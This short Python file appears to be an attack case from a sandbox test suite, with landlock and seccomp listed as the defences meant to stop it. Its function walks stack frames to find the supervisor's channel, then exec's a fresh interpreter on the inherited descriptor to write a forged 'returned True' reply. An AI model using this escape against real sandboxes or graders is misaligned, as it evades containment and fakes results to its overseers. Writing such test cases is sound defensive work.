"""Become another program, which has no walls of Python's own."""

import os
import sys

STOPPED_BY = ("landlock", "seccomp")


def attack(target):
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("self"), "channel"):
        frame = frame.f_back
    channel = frame.f_locals["self"].channel
    reply = type(channel)  # the class of the wire's channel: its module makes the bytes
    bytes_ = sys.modules[reply.__module__].frame(("returned", True))
    number = channel._connection.fileno()
    os.set_inheritable(number, True)
    os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", f"import os; os.write({number}, {bytes_!r})"])
